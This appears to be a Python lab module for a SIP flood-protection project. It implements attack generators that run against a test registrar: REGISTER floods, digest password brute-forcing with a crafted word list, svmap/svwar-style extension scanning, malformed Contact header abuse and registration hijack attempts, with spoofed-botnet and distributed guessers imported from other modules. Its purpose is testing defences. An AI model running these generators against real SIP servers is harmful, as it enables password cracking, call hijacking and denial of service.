"""Attack generators, each run inside the attackers' namespace:

    python -m floodguard.lab.attacks NAME --server IP --duration S [options]

prints one JSON object with what it did (``sent``, ``answered`` and per-attack details).

Which generators exist, with which sources, rates and targets each scenario starts them, and
what each scenario is, is the registry's (``scenarios.py``): ``NAME`` is a generator some
scenario names there, and its function here is that name with ``-`` written ``_`` (``ATTACKS``).
How each one attacks is in its docstring. The spoofed botnet's variants live in ``botnet.py``
(its answers go elsewhere and nothing comes back to count), the precision scenarios' guessers
(``nat-office``, ``distributed-guess``) in ``guessers.py``; the guesser uses an
ordinary phone's user agent (so no user-agent rule helps) and has the right password in its word
list, so an unprotected registrar gets cracked.

SIPVicious' own tools (svcrack, svmap, svwar), also named in the registry, are started by the
runner where installed; they announce themselves as ``friendly-scanner``.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import random
import secrets
import select
import signal
import sys
import time
from collections import Counter
from collections.abc import Callable
from typing import Any

from floodguard.lab import scenarios, sip
from floodguard.lab.botnet import (  # noqa: F401  (generators looked up by name; re-exported)
    PAYLOADS,
    botnet,
    botnet_junk,
    botnet_noauth,
    botnet_options,
    botnet_packets,
    botnet_token,
    spoofed_datagram,
)
from floodguard.lab.dialog import (  # noqa: F401  (CRACK_AT, guesses: re-exported)
    COMMON_PASSWORDS,
    CRACK_AT,
    Dialog,
    authorization,
    drain,
    guesses,
    parse,
    udp_socket,
)
from floodguard.lab.guessers import (  # noqa: F401  (generators looked up by name)
    distributed_guess,
    spray,
    stale_phone,
)
from floodguard.lab.pacing import STOP, Pacer
from floodguard.sip import build
from floodguard.sip.message import DigestChallenge, SipMessage

# ---------------------------------------------------------------------------- volume


def volume(args: argparse.Namespace) -> dict[str, Any]:
    """One source, one socket, REGISTERs as fast as possible (or at --rate)."""
    src = args.sources[0]
    sock = udp_socket(src, 5070)
    template = build.register(args.server, user="10000", local=f"{src}:5070",
                              call_id="volume-%08d@flood", cseq=1, branch="z9hG4bKvol%08d",
                              expires=60, user_agent="Grandstream GXP2170 1.0.11.3")
    text = template.decode()
    pacer = Pacer(args.rate, args.duration)
    sent = answered = 0
    while (due := pacer.due()) >= 0:
        for _ in range(due):
            try:
                sock.sendto((text % (sent, sent)).encode(), (args.server, sip.SIP_PORT))
            except (BlockingIOError, InterruptedError):
                select.select([], [sock], [], 0.01)
                break
            except OSError:
                break
            sent += 1
            pacer.done += 1
        answered += drain(sock)
    time.sleep(0.3)
    answered += drain(sock)
    return {"sent": sent, "answered": answered, "sources": 1}


# ---------------------------------------------------------------------------- guessing


def bruteforce(args: argparse.Namespace) -> dict[str, Any]:
    """Challenge-response guessing of one account's password from one real address.

    Every guess answers a nonce the registrar issued to this very address, so each 401 is a
    proven failure. Once the registrar stops answering (banned), the guesser keeps knocking at
    the same pace so the drops show in the kernel counters.
    """
    src, target = args.sources[0], args.target
    dialog = Dialog(src, 5080, args.server)
    call_id = f"bf-{secrets.token_hex(6)}@{src}"
    cseq = 1
    start = time.monotonic()
    end = start + args.duration
    proven = 0
    cracked: str | None = None
    blocked_after: int | None = None
    silent_at: float | None = None
    statuses: Counter[str] = Counter()
    last: SipMessage | None = None
    words = guesses(target, 10**6)
    while time.monotonic() < end and cracked is None and not STOP[0]:
        auth = authorization(last, target, next(words), args.server) if last is not None \
            else None
        request = build.register(args.server, user=target, local=f"{src}:5080",
                                 call_id=call_id, cseq=cseq, expires=60, authorization=auth,
                                 user_agent=sip.PHONE_AGENT)
        reply = dialog.exchange(request, call_id, cseq, wait=0.5, tries=2)
        cseq += 1
        if reply is None:
            statuses["no answer"] += 1
            if blocked_after is None:
                blocked_after = proven
                silent_at = time.monotonic() - start
            last = None
            time.sleep(max(0.0, 1.0 / args.rate))
            continue
        statuses[str(reply.status)] += 1
        if reply.status == 200 and auth is not None:
            cracked = "yes"
            break
        if (reply.status in (401, 407) and auth is not None
                and not any(c.stale for c in reply.challenges)):
            proven += 1
        last = reply if reply.status in (401, 407) else None
        if args.rate:
            time.sleep(1.0 / args.rate)
    return {"sent": dialog.sent, "answered": sum(v for k, v in statuses.items()
                                                  if k != "no answer"),
            "sources": 1, "target": target, "proven_failures": proven,
            "blocked_after_failures": blocked_after, "blocked_at_s": silent_at,
            "cracked": cracked is not None, "statuses": dict(statuses)}


# ---------------------------------------------------------------------------- scanner

SCANNER_AGENTS = ["friendly-scanner", "sipvicious", "sipcli/v1.8", "VaxSIPUserAgent/3.1",
                  "pplsip"]


def scanner(args: argparse.Namespace) -> dict[str, Any]:
    """svmap-style OPTIONS sweeps and svwar-style REGISTER enumeration, scanner user agents."""
    socks = [udp_socket(src, 5090) for src in args.sources]
    pacer = Pacer(args.rate, args.duration)
    sent = answered = 0
    found: set[str] = set()
    extension = 100

    def seen(data: bytes) -> None:
        msg = parse(data)
        if (msg is not None and not msg.is_request and msg.status in (200, 401, 403, 407)
                and msg.cseq_method == "REGISTER" and msg.to_user):
            found.add(msg.to_user)

    while (due := pacer.due()) >= 0:
        for _ in range(due):
            i = sent % len(socks)
            sock, src = socks[i], args.sources[i]
            agent = SCANNER_AGENTS[sent % len(SCANNER_AGENTS)]
            if sent % 2:
                data = build.options(f"sip:{extension}@{args.server}", local=f"{src}:5090",
                                     contact=f"<sip:{extension}@{src}:5090>",
                                     user_agent=agent, headers=["Accept: application/sdp"])
            else:
                data = build.register(args.server, user=str(extension), local=f"{src}:5090",
                                      call_id=secrets.token_hex(8), cseq=1, expires=60,
                                      user_agent=agent)
                extension = 100 + (extension - 99) % 20000
            with contextlib.suppress(OSError):
                sock.sendto(data, (args.server, sip.SIP_PORT))
            sent += 1
        pacer.done += due
        for sock in socks:
            answered += drain(sock, seen)
    time.sleep(0.3)
    for sock in socks:
        answered += drain(sock, seen)
    return {"sent": sent, "answered": answered, "sources": len(socks),
            "extensions_answered": len(found)}


# ---------------------------------------------------------------------------- contact abuse


def abusive_contacts(src: str, sport: int) -> list[tuple[str, tuple[str, ...]]]:
    """Contact headers that are huge, numerous or malformed: (Contact value, extra lines)."""
    user = sip.ATTACKER_USER
    big_uri = f"<sip:{'a' * 60000}@{src}:{sport}>"
    many = ", ".join(f"<sip:c{i}@{src}:{sport}>" for i in range(2000))
    params = f"<sip:{user}@{src}:{sport}>;" + ";".join(f"p{i}=v{i}" for i in range(4000))
    lines = tuple(f"Contact: <sip:l{i}@{src}:{sport}>" for i in range(120))
    return [
        (big_uri, ()),
        (many, ()),
        (params, ()),
        (f"<sip:{user}@{src}:{sport}>", lines),
        (f"<sip:{user}@{src}:{sport}", ()),  # unterminated
        (f'"{"x" * 3000}<sip:{user}@{src}>', ()),  # unterminated quote
        (f"<http://{src}/{'z' * 2000}>", ()),  # not a SIP URI
        (f"<sip:{user}@{src}:{sport}>;expires=abc", ()),
        (f"<sip:{user}@{src}:99999999999>", ()),
        ("<sip:@>", ()),
        ("<" * 5000 + ">" * 5000, ()),
        (f"<sip:{user}@[{'f' * 500}]>", ()),
    ]


class AbuseSource:
    """One abusing host: its socket, and a nonce for its own account once it has one."""

    def __init__(self, src: str, server: str, sport: int = 5095) -> None:
        self.src, self.server, self.sport = src, server, sport
        self.sock = udp_socket(src, sport)
        self.contacts = abusive_contacts(src, sport)
        self.challenge: DigestChallenge | None = None
        self.nc = 0
        self.call_id = f"abuse-{secrets.token_hex(6)}@{src}"
        self.cseq = 0

    def message(self, index: int) -> bytes:
        """Every other message is authenticated with the attackers' own valid account, so the
        registrar has to look at its Contacts instead of just challenging it."""
        contact, extra = self.contacts[index % len(self.contacts)]
        self.cseq += 1
        auth = None
        if index % 2 and self.challenge is not None:
            self.nc += 1
            auth = build.answer(self.challenge, sip.ATTACKER_USER, sip.ATTACKER_PASSWORD,
                                "REGISTER", f"sip:{self.server}", nc=self.nc)
        return build.register(self.server, user=sip.ATTACKER_USER,
                              local=f"{self.src}:{self.sport}", call_id=self.call_id,
                              cseq=self.cseq, contacts=[contact], headers=extra, expires=60,
                              authorization=auth, user_agent="Cisco-SIPGateway/IOS-12.x")

    def seen(self, data: bytes, statuses: Counter[str]) -> None:
        msg = parse(data)
        statuses[str(msg.status) if msg is not None else "unparseable"] += 1
        if msg is not None and msg.status in (401, 407):
            challenge = build.challenge_of(msg)
            if challenge is not None and (self.challenge is None
                                          or challenge.nonce != self.challenge.nonce):
                self.challenge, self.nc = challenge, 0


def contact_abuse(args: argparse.Namespace) -> dict[str, Any]:
    """Round-robin over the abusive REGISTERs from every source at --rate packets/s."""
    hosts = [AbuseSource(src, args.server) for src in args.sources]
    pacer = Pacer(args.rate, args.duration)
    sent = answered = 0
    statuses: Counter[str] = Counter()
    while (due := pacer.due()) >= 0:
        for _ in range(due):
            host = hosts[sent % len(hosts)]
            with contextlib.suppress(OSError):
                host.sock.sendto(host.message(sent // len(hosts)), (args.server, sip.SIP_PORT))
            sent += 1
        pacer.done += due
        for host in hosts:
            answered += drain(host.sock, lambda d, h=host: h.seen(d, statuses))
    time.sleep(0.3)
    for host in hosts:
        answered += drain(host.sock, lambda d, h=host: h.seen(d, statuses))
    return {"sent": sent, "answered": answered, "sources": len(hosts),
            "statuses": dict(statuses)}


# ---------------------------------------------------------------------------- hijack


def hijack(args: argparse.Namespace) -> dict[str, Any]:
    """Try every way to bind the victim's AOR to the attacker's contact; count any 200."""
    src, victim = args.sources[0], args.target
    dialog = Dialog(src, 5085, args.server)
    contact = f"<sip:{victim}@{src}:5085>"
    start = time.monotonic()
    end = start + args.duration
    outcomes: Counter[str] = Counter()
    hijacked = 0
    round_no = 0
    while time.monotonic() < end and not STOP[0]:
        round_no += 1
        call_id = f"hj-{secrets.token_hex(6)}@{src}"
        first = build.register(args.server, user=victim, local=f"{src}:5085", call_id=call_id,
                               cseq=1, contacts=[contact], expires=60,
                               user_agent=sip.PHONE_AGENT)
        reply = dialog.exchange(first, call_id, 1, wait=0.5, tries=1)
        kind = ("wrong-password", "own-credentials", "forged-nonce",
                "unregister-all")[round_no % 4]
        if reply is None:
            outcomes["no answer"] += 1
            time.sleep(1.0 / args.rate)
            continue
        if reply.status == 200:
            hijacked += 1
        if reply.status not in (401, 407):
            outcomes[f"unauthenticated {reply.status}"] += 1
            continue
        if kind == "own-credentials":
            auth = authorization(reply, sip.ATTACKER_USER, sip.ATTACKER_PASSWORD, args.server)
        elif kind == "forged-nonce":
            auth = authorization(reply, victim, sip.password(victim) + "?", args.server,
                                  forged_nonce=True)
        else:
            auth = authorization(reply, victim, random.choice(COMMON_PASSWORDS), args.server)
        second = build.register(
            args.server, user=victim, local=f"{src}:5085", call_id=call_id, cseq=2,
            contacts=["*" if kind == "unregister-all" else contact], authorization=auth,
            expires=0 if kind == "unregister-all" else 3600, user_agent=sip.PHONE_AGENT)
        reply = dialog.exchange(second, call_id, 2, wait=0.5, tries=1)
        status = "no answer" if reply is None else str(reply.status)
        outcomes[f"{kind} {status}"] += 1
        if reply is not None and reply.status == 200:
            hijacked += 1
        time.sleep(1.0 / args.rate)
    answered = sum(v for k, v in outcomes.items() if not k.endswith("no answer"))
    return {"sent": dialog.sent, "answered": answered, "sources": 1, "victim": victim,
            "hijack_200": hijacked, "outcomes": dict(outcomes)}


# ---------------------------------------------------------------------------- command line

Attack = Callable[[argparse.Namespace], dict[str, Any]]


def _function(name: str) -> Attack:
    """The generator called ``name`` in the registry: this module's function of that name."""
    function: Attack = globals()[name.replace("-", "_")]
    return function


# Every generator the registry's scenarios start, by name.
ATTACKS: dict[str, Attack] = {name: _function(name) for name in scenarios.generator_names()}


def main(argv: list[str] | None = None) -> int:
    """Run one attack and print its JSON summary."""
    ap = argparse.ArgumentParser(prog="python -m floodguard.lab.attacks")
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("--server", required=True)
    ap.add_argument("--duration", type=float, default=10.0)
    ap.add_argument("--rate", type=float, default=0.0, help="packets (or guesses) per second")
    ap.add_argument("--source", dest="sources", action="append", default=[],
                    help="source address (repeat); botnet: see --botnet-sources")
    ap.add_argument("--botnet-sources", type=int, default=0,
                    help="botnet: this many spoofed sources from the lab's botnet range")
    ap.add_argument("--users", type=int, default=60, help="lab accounts that exist")
    ap.add_argument("--target", default=sip.phone_user(0), help="account attacked")
    args = ap.parse_args(argv)
    if args.attack in PAYLOADS:
        from floodguard.lab.topology import botnet_addresses

        args.sources = botnet_addresses(args.botnet_sources or 10000)
    if not args.sources:
        ap.error("at least one --source is needed")
    def on_stop(_sig: int, _frame: object) -> None:
        STOP[0] = True

    signal.signal(signal.SIGINT, on_stop)
    signal.signal(signal.SIGTERM, on_stop)
    began = time.time()
    result = ATTACKS[args.attack](args)
    result.update(attack=args.attack, started=began, ended=time.time(), pid=os.getpid())
    sys.stdout.write(json.dumps(result) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
